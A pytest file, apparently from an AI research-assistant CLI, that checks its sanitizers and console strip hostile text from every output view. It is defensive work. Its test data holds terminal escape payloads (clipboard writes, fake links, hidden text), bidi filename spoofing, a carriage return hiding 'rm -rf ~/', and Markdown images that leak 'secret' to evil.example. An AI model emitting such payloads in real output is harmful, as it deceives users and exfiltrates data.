"""Outside text made inert: ``clean`` for terminals and pipes, ``json_text`` for JSON
lines, ``no_images`` for notebooks (issue 9, items 1 and 14)."""

from __future__ import annotations

import io
import json
import re

import pytest
from markdown_it import MarkdownIt
from rich.markdown import Markdown
from rich.text import Text

from ahora.answer import Answer
from ahora.cli.console import SafeConsole
from ahora.events import ApprovalRequested, Token, ToolCalled, ToolFinished
from ahora.safe_text import clean, is_clean, json_text, no_images

# Every way text can act on a terminal instead of being shown.
HOSTILE = (
    "a\x1b]52;c;ZXZpbA==\x07"  # OSC 52: write the clipboard
    "b\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a fake link
    "c\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
    "d\x1b]0;title\x07"  # window title
    "e\rf\bg\x7fh"  # CR, backspace, DEL
    "i\x9b31mj\x9d0;x\x9c"  # C1 CSI, OSC, ST
    "k\u202eevil\u202cl\u2066m\u2069"  # bidi override, isolate
    "n\x00o\x0bp\x0cq"  # NUL, VT, FF
)
CONTROLS = set(range(0x00, 0x09)) | set(range(0x0B, 0x20)) | set(range(0x7F, 0xA0))
BIDI = {0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069}


def inert(text: str) -> bool:
    return not any(ord(c) in CONTROLS or ord(c) in BIDI for c in text)


def test_clean_shows_every_control_visibly_and_keeps_the_text() -> None:
    out = clean(HOSTILE)
    assert inert(out)
    assert out.startswith("a␛]52;c;ZXZpbA==␇b␛]8;;https://evil.example/␛\\click")
    assert "e␍f␈g␡h" in out and "i<U+009B>31mj" in out and "k<U+202E>evil<U+202C>l" in out


def test_clean_keeps_newlines_tabs_and_unicode() -> None:
    text = "line one\n\tline two ✓ — ñandú 日本 👍🏽 👨‍👩‍👧"
    assert clean(text) == text and is_clean(text)
    assert clean("a\r\nb") == "a\nb"


def test_json_text_escapes_what_json_leaves_raw_and_keeps_the_data() -> None:
    data = {"title": HOSTILE}
    dumped = json_text(json.dumps(data, ensure_ascii=False))
    assert inert(dumped) and json.loads(dumped) == data


def render(obj: object, *, terminal: bool = True) -> str:
    buf = io.StringIO()
    console = SafeConsole(file=buf, force_terminal=terminal, width=200, color_system="truecolor")
    console.print(obj)
    return buf.getvalue()


SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.mark.parametrize("terminal", [True, False])
def test_the_console_cleans_outside_text_and_keeps_its_own_codes(terminal: bool) -> None:
    out = render(Text("title: " + HOSTILE, style="bold"), terminal=terminal)
    assert out.startswith("\x1b[1mtitle: a␛]52;c;")  # rich's bold, then the text, cleaned
    assert inert(SGR.sub("", out)) and "<U+009B>31m" in out
    md = render(Markdown(f"# Head\n\n**bold** {HOSTILE}\n\n[link](https://example.org)"))
    assert "Head" in md and "␛]52" in md and "<U+202E>" in md
    assert "\x1b]8;" in md  # rich's own hyperlink for the model's Markdown link
    assert "\x1b]52" not in md and "\x1b[2J" not in md and "\u202e" not in md and "\r" not in md


def test_the_console_cleans_a_hyperlink_target() -> None:
    text = Text("source")
    text.stylize("link https://a.example/\x1b]52;c;eA==\x07")
    out = render(text)
    assert "\x1b]52" not in out and "\x07" not in out and "a.example/␛]52" in out


def test_a_plain_console_would_have_obeyed() -> None:
    # The test above bites: rich alone passes the hostile codes through.
    from rich.console import Console

    buf = io.StringIO()
    Console(file=buf, force_terminal=True, width=200).print(Text(HOSTILE))
    assert "\x1b]52;c;" in buf.getvalue()


HTML = MarkdownIt("commonmark")

IMAGES = [
    "![logo](https://evil.example/x.png?d=secret)",
    '![logo](https://evil.example/x.png "title")',
    "![logo][r]\n\n[r]: https://evil.example/x.png",
    "![logo][]\n\n[logo]: https://evil.example/x.png",
    "![logo]\n\n[logo]: https://evil.example/x.png",
    "[![logo](https://evil.example/x.png)](https://example.org)",
    "\\\\![logo](https://evil.example/x.png)",
    "*![logo](https://evil.example/x.png)*",
    "> ![logo](https://evil.example/x.png)",
]


@pytest.mark.parametrize("markdown", IMAGES)
def test_no_images_turns_every_image_into_a_link(markdown: str) -> None:
    assert "<img" in HTML.render(markdown)  # the attack works on raw Markdown
    html = HTML.render(no_images(markdown))
    assert "<img" not in html and 'href="https://evil.example/x.png' in html


def test_notebook_views_of_answers_and_tokens_load_no_images() -> None:
    source = {
        "url": "https://a.example/)![x](https://evil.example/t.png",
        "title": "![t](https://evil.example/u.png)",
    }
    answer = Answer(text="See ![chart](https://evil.example/c.png?q=secret)", sources=[source])  # type: ignore[list-item]
    assert "<img" not in HTML.render(answer._repr_markdown_())
    assert "https://evil.example/c.png" in HTML.render(answer._repr_markdown_())
    image = "![a](https://evil.example/t.png)"
    events = [
        Token(image),
        ToolCalled("c1", "read_page", {"url": image}),
        ToolFinished("c1", "read_page", f"page {image} text"),
        ToolFinished("c1", "read_page", "", error=image),
        ApprovalRequested("c2", "send", {"to": image}),
    ]
    for event in events:
        assert "<img" not in HTML.render(event._repr_markdown_()), event
    assert no_images("plain **text**, a [link](https://x.example) and a ! mark") == (
        "plain **text**, a [link](https://x.example) and a ! mark"
    )


# --- every view, every payload (the corpus benchmarks/reliability.py replays) -----------

PAYLOADS: list[tuple[str, str]] = [
    ("OSC 52 clipboard (BEL)", "x\x1b]52;c;ZXZpbA==\x07y"),
    ("OSC 52 clipboard (ST)", "x\x1b]52;c;ZXZpbA==\x1b\\y"),
    ("OSC 8 fake link", "\x1b]8;;https://evil.example/\x1b\\bank.example\x1b]8;;\x1b\\"),
    ("OSC 0 window title", "\x1b]0;PWNED\x07"),
    ("OSC 2 window title", "\x1b]2;PWNED\x1b\\"),
    ("CSI clear screen", "before\x1b[2J\x1b[Hafter"),
    ("CSI erase line, cursor up", "real\x1b[2K\x1b[1A\x1b[2Kfake"),
    ("CSI hidden text", "\x1b[8msecret\x1b[0m"),
    ("CSI report request", "\x1b[6n\x1b[21t"),
    ("CR overwrite", "rm -rf ~/\rls -la    "),
    ("CRLF inside a line", "one\r\ntwo"),
    ("backspace overwrite", "safe\b\b\b\bevil"),
    ("DEL", "a\x7fb"),
    ("NUL, VT, FF", "a\x00b\x0bc\x0cd"),
    ("BEL", "ding\x07"),
    ("DCS", "\x1bPq#0;2;0;0;0\x1b\\"),
    ("APC, PM, SOS", "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\"),
    ("C1 CSI", "x\x9b2Jy"),
    ("C1 OSC 52", "\x9d52;c;ZXZpbA==\x9c"),
    ("C1 DCS, NEL", "\x90q\x9c\x85"),
    ("bidi override", "invoice_\u202efdp.exe"),
    ("bidi isolates", "a\u2066b\u2067c\u2068d\u2069"),
    ("bidi embeddings, marks", "\u202aa\u202bb\u202c\u200e\u200f\u061c"),
    ("BOM", "\ufeffstart"),
    ("escape split by markup", "\x1b[[bold]2J[/bold]"),
    ("a whole sequence in a URL", "https://a.example/\x1b]52;c;eA==\x07"),
]
CONTROL_CODES = CONTROLS | BIDI | {0xFEFF, 0x061C, 0x200E, 0x200F}


def _console() -> tuple[SafeConsole, io.StringIO]:
    buf = io.StringIO()
    return SafeConsole(file=buf, force_terminal=True, width=100, color_system=None), buf


def _view_text(p: str) -> str:
    console, buf = _console()
    console.print(Text(f"title: {p}"))
    return buf.getvalue()


def _view_markdown(p: str) -> str:
    console, buf = _console()
    console.print(Markdown(f"# {p}\n\n**{p}** and `{p}`\n\n- {p}"))
    return buf.getvalue()


def _view_sources(p: str) -> str:
    from ahora.cli.render import TerminalRenderer

    console, buf = _console()
    source = {"url": "https://a.example/", "title": p}
    TerminalRenderer(console).show_answer(Answer(text=p, sources=[source]))  # type: ignore[list-item]
    return buf.getvalue()


def _view_tool_lines(p: str) -> str:
    from ahora.cli.render import TerminalRenderer
    from ahora.events import ApprovalRequested, ToolCalled, ToolFinished

    console, buf = _console()
    renderer = TerminalRenderer(console, verbose=True)
    renderer.handle(ToolCalled("c1", p, {"q": p}))
    renderer.handle(ApprovalRequested("c1", p, {"q": p}))
    renderer.handle(ToolFinished("c1", p, preview=p))
    renderer.handle(ToolCalled("c2", "read_page", {"url": p}))
    renderer.handle(ToolFinished("c2", "read_page", preview="", error=p))
    renderer.note(p)
    return buf.getvalue()


def _view_piped(p: str) -> str:
    from ahora.cli.render import PlainRenderer
    from ahora.events import Finished, ToolCalled, ToolFinished

    out, err = io.StringIO(), io.StringIO()
    renderer = PlainRenderer(out, err, verbose=True)
    renderer.handle(ToolCalled("c1", p, {"q": p}))
    renderer.handle(ToolFinished("c1", p, preview=p))
    renderer.handle(ToolCalled("c2", "web_search", {"query": p}))
    renderer.handle(ToolFinished("c2", "web_search", preview="", error=p))
    renderer.handle(Finished(Answer(text=p)))
    return out.getvalue() + err.getvalue()


def _view_approval(p: str) -> str:
    from ahora.cli.approvals import format_call, question

    console, buf = _console()
    console.print(question({"name": p, "args": {p: p, "url": p}}))
    return buf.getvalue() + format_call({"name": p, "args": {p: p}}) + "\n"


def _view_file_name(p: str) -> str:
    return clean(p, one_line=True)


def _view_json(p: str) -> str:
    return json_text(json.dumps({"answer": p, "sources": [{"title": p}]}, ensure_ascii=False))


VIEWS = {
    "rich text": _view_text,
    "Markdown": _view_markdown,
    "answer and Sources": _view_sources,
    "tool lines and --verbose preview": _view_tool_lines,
    "piped answer and stderr": _view_piped,
    "approval question": _view_approval,
    "file name": _view_file_name,
    "JSON": _view_json,
}
ONE_LINE = {"file name", "JSON"}


def view_is_inert(view: str, output: str) -> bool:
    """No control character in ``output`` but newline and tab (none in one-line views)."""
    allowed = "" if view in ONE_LINE else "\n\t"
    return not any(ord(c) in CONTROL_CODES and c not in allowed for c in output)


@pytest.mark.parametrize("view", VIEWS)
@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_no_view_writes_a_control_character(view: str, payload: str) -> None:
    assert view_is_inert(view, VIEWS[view](payload))
